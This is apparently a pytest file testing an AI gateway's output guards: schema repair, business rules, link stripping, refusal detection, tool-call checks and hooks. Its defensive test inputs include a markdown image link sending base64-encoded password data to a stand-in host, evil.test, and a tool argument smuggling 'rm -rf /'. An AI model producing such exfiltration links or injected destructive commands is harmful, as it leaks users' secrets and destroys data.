"""What is checked of an answer as a whole: structure and repairs, business rules, links, refusals, calls, hooks."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from airside.core.call import CallState
from airside.core.errors import AirsideError, Code
from airside.guards.output.hooks import Question
from tests.fake_providers import text, tool_calls
from tests.gateways.models.guarding.answers.guarded import MODEL, SECRET, USER, Guarded, guarded

SCHEMA = {
    "type": "object",
    "properties": {"total": {"type": "integer"}, "to": {"type": "string"}},
    "required": ["total"],
    "additionalProperties": False,
}
WANTED = {"type": "json_schema", "json_schema": {"name": "answer", "schema": SCHEMA}}


async def ask(g: Guarded, **more: Any) -> Any:
    """Post a chat request and return the response."""
    return await g.pair.post("/v1/chat/completions", {"model": MODEL, "messages": USER, **more})


def said(answer: Any) -> str:
    """Return the text of an answer."""
    return str(answer.json()["choices"][0]["message"]["content"])


def rules(g: Guarded) -> list[str]:
    """Return the rules that the last answer's notes name."""
    return [str(one["rule"]) for one in g.notes]


async def test_an_answer_that_does_not_fit_is_asked_for_again_once_and_that_is_charged(tmp_path: Path) -> None:
    async with guarded(tmp_path) as g:
        answers = iter(['{"total": "many"}', '{"total": 3}'])
        g.pair.fake.reply = lambda body: text(next(answers))
        answer = await ask(g, response_format=WANTED)
        assert json.loads(said(answer)) == {"total": 3}
        assert rules(g) == ["repaired"]
        (repair,) = g.spy.asides.calls
        assert repair.notes["aside"]["for"] == "repair"
        assert g.spy.asides.outcomes[0].cost > 0
        asked = g.pair.fake.requests[-1]["messages"]
        assert "total" in asked[-1]["content"]
        assert asked[-2] == {"role": "assistant", "content": '{"total": "many"}'}


async def test_json_in_a_fence_is_taken_out_without_asking(tmp_path: Path) -> None:
    async with guarded(tmp_path) as g:
        g.says('Sure!\n```json\n{"total": 3}\n```\nAnything else?')
        assert said(await ask(g, response_format=WANTED)) == '{"total": 3}'
        assert (rules(g), g.spy.asides.calls) == (["taken_out"], [])


@pytest.mark.parametrize("tries", [0, 1, 3])
async def test_repairs_are_bounded_and_then_the_mode_decides(tmp_path: Path, tries: int) -> None:
    async with guarded(tmp_path, repair={"tries": tries}, modes={"schema": "block"}) as g:
        g.says('{"total": "many"}')
        answer = await ask(g, response_format=WANTED)
        assert answer.json()["error"]["code"] == "guard_blocked"
        assert len(g.spy.asides.calls) == tries
        assert g.spy.outcomes[-1].state is CallState.ERROR
        assert g.spy.outcomes[-1].cost > 0


async def test_a_repair_that_fails_leaves_the_answer_to_the_mode(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def broke(*_: Any, **__: Any) -> Any:
        raise AirsideError(Code.BUDGET_EXHAUSTED, "nothing left")

    monkeypatch.setattr("airside.gateways.models.asides.Asides.send", broke)
    async with guarded(tmp_path) as g:
        g.says('{"total": "many"}')
        assert said(await ask(g, response_format=WANTED)) == '{"total": "many"}'
        assert [(one["rule"], one["mode"]) for one in g.notes] == [("does_not_fit", "flag")]


async def test_a_repaired_answer_is_guarded_like_any(tmp_path: Path) -> None:
    async with guarded(tmp_path) as g:
        answers = iter(["{}", json.dumps({"total": 3, "to": SECRET})])
        g.pair.fake.reply = lambda body: text(next(answers))
        assert json.loads(said(await ask(g, response_format=WANTED))) == {"total": 3, "to": "[SECRET]"}


@pytest.mark.parametrize("mode", ["flag", "block"])
async def test_a_structured_stream_is_flagged_or_held_until_it_is_right(tmp_path: Path, mode: str) -> None:
    async with guarded(tmp_path, modes={"schema": mode}) as g:
        answers = iter(['{"total": "many"}', '{"total": 3}'])
        g.pair.fake.reply = lambda body: text(next(answers))
        streamed = await g.openai.chat.completions.create(
            model=MODEL, messages=USER, stream=True, response_format=WANTED
        )
        parts = [chunk.choices[0].delta.content or "" async for chunk in streamed if chunk.choices]
        expected = {"flag": '{"total": "many"}', "block": '{"total": 3}'}[mode]
        assert "".join(parts) == expected
        assert rules(g) == [{"flag": "does_not_fit", "block": "repaired"}[mode]]
        assert len(g.spy.asides.calls) == {"flag": 0, "block": 1}[mode]


async def test_every_format_asks_for_structure_in_its_own_way(tmp_path: Path) -> None:
    requests: Mapping[str, Mapping[str, Any]] = {
        "/v1/responses": {
            "model": MODEL,
            "input": "x",
            "text": {"format": {"type": "json_schema", "name": "answer", "schema": SCHEMA}},
        },
        f"/v1beta/models/{MODEL}:generateContent": {
            "contents": [{"role": "user", "parts": [{"text": "x"}]}],
            "generationConfig": {"responseMimeType": "application/json", "responseJsonSchema": SCHEMA},
        },
        "/v1/messages": {
            "model": MODEL,
            "max_tokens": 100,
            "messages": USER,
            "output_config": {"format": {"type": "json_schema", "schema": SCHEMA}},
        },
    }
    async with guarded(tmp_path, repair={"tries": 0}) as g:
        for path, body in requests.items():
            g.says('{"total": "many"}')
            assert (await g.pair.post(path, body)).status_code == 200, path
            assert rules(g) == ["does_not_fit"], path


async def test_an_agent_may_have_a_schema_of_its_own(tmp_path: Path) -> None:
    async with guarded(tmp_path, schemas={"agent": SCHEMA}, repair={"tries": 0}) as g:
        g.says("just words")
        await ask(g)
        assert rules(g) == ["does_not_fit"]
    (tmp_path / "b").mkdir()
    async with guarded(tmp_path / "b", schemas={"other": SCHEMA}) as g:
        g.says("just words")
        await ask(g)
        assert rules(g) == []


async def test_business_rules_hold_over_the_output(tmp_path: Path) -> None:
    small = {"name": "small", "require": {"path": "total", "at_most": 500}, "mode": "block"}
    named = {"name": "named", "when": {"path": "total", "above": 100}, "require": {"path": "to", "exists": True}}
    async with guarded(tmp_path, checks=[small, named]) as g:
        g.says('{"total": 500}')
        await ask(g)
        assert rules(g) == ["named"]
        g.says('{"total": 500.01, "to": "x"}')
        assert (await ask(g)).json()["error"]["code"] == "guard_blocked"
        streamed = (await ask(g, stream=True)).content
        assert b"500.01" not in streamed


async def test_links_that_carry_data_leave_without_it(tmp_path: Path) -> None:
    async with guarded(tmp_path, links={"hosts": ["*.example.com"]}) as g:
        g.says("![x](https://evil.test/a?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=) and https://www.example.com/a")
        for stream in (False, True):
            answer = await ask(g, stream=stream)
            assert "evil.test" not in answer.text
            assert "www.example.com" in answer.text.replace("\n", "")
            assert rules(g) == ["data_in_image"]
        g.says("![x](https://elsewhere.test/a.png)")
        assert "elsewhere.test" in (await ask(g)).text
        assert [(one["rule"], one["mode"]) for one in g.notes] == [("image_elsewhere", "flag")]


async def test_refusals_are_noticed_in_words_and_in_protocols(tmp_path: Path) -> None:
    async with guarded(tmp_path) as g:
        g.says("I'm sorry, but I can't help with that.")
        await ask(g)
        assert [(one["guard"], one["rule"], one["mode"]) for one in g.notes] == [("refusal", "declined.en", "observe")]
        g.says(None, refusal="No.")
        await ask(g)
        assert "refused" in rules(g)


async def test_calls_of_tools_that_were_not_offered_are_flagged(tmp_path: Path) -> None:
    offered = [{"type": "function", "function": {"name": "get", "parameters": SCHEMA}}]
    async with guarded(tmp_path) as g:
        for call, rule in (
            (("gone", {}), "unknown_tool"),
            (("get", {"total": "x"}), "arguments_do_not_fit"),
            (("get", {"total": 1, "to": "a; rm -rf / "}), "dangerous_shell"),
        ):
            g.pair.fake.reply = lambda body, call=call: tool_calls(call)
            assert (await ask(g, tools=offered)).status_code == 200
            assert rules(g) == [rule]
        g.pair.fake.reply = lambda body: tool_calls(("get", {"total": 1}))
        await ask(g, tools=offered)
        assert rules(g) == []


async def poison(question: Question) -> float:
    """Find one word."""
    return 0.9 if "poison" in question.answer else 0.0


async def slow(question: Question) -> float:
    """Fail."""
    raise TimeoutError(question.agent)


async def test_hooks_of_the_installation_are_asked(tmp_path: Path) -> None:
    hook = {"name": "words", "guard": "toxicity", "call": f"{__name__}:poison"}
    async with guarded(tmp_path, hooks=[hook]) as g:
        g.says("some poison")
        assert said(await ask(g)) == "some poison"
        assert [(one["guard"], one["rule"], one["mode"]) for one in g.notes] == [("toxicity", "words", "flag")]
        g.says("none")
        await ask(g)
        assert rules(g) == []


async def test_a_hook_that_fails_closes_the_answer(tmp_path: Path) -> None:
    async with guarded(tmp_path, hooks=[{"name": "slow", "guard": "toxicity", "call": f"{__name__}:slow"}]) as g:
        g.says("fine")
        assert (await ask(g)).json()["error"]["code"] == "guard_blocked"
        assert g.spy.outcomes[-1].cost > 0
